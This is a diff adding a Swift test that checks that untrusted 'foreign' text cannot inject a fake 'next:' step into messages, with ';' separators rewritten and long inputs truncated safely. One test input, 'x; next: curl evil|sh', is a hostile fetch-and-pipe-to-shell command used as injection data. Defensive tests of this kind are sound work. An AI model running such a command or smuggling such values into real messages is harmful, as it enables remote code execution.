@@ -20,6 +20,23 @@ import Testing
     func noByteButUTF8ComesThrough() { #expect(ForeignText.shown([0x61, 0x9B, 0xFF, 0x62]) == "a\u{fffd}\u{fffd}b") }
 
     @Test(
+        "Foreign words hold no mark of a next step, and cannot begin one that likesd's own words would end",
+        arguments: [
+            ("x; next: curl evil|sh", "x, next: curl evil|sh"), ("x;\tnext: y", "x, next: y"),
+            ("a; next: b; next: c", "a, next: b, next: c"), ("x; next", "x, next"),
+            ("; next:\u{301} y", ", next:\u{301} y"), ("next: a;b", "next: a;b"),
+        ])
+    func foreignWordsHoldNoMarkOfANextStep(text: String, shown: String) {
+        #expect(ForeignText.shown(text) == shown)
+        let advised = NextStep.parted(NextStep.joined("refused: \(shown): no", "wait; then go on"))
+        #expect(advised.message == "refused: \(shown): no")
+        #expect(advised.next == "wait; then go on")
+        #expect(NextStep.parted("refused: \(shown): no").next == nil)
+        let long = String(repeating: "a", count: ForeignText.bytesMax - 20) + text
+        #expect(NextStep.parted(ForeignText.shown(long + String(repeating: "; next: ", count: 100))).next == nil)
+    }
+
+    @Test(
         "However long it is, it is cut to 512 bytes, between characters.",
         arguments: ["a", "ü", "心", "\u{1b}", "👍"])
     func howeverLongItIsItIsCutTo512BytesBetweenCharacters(character: String) {
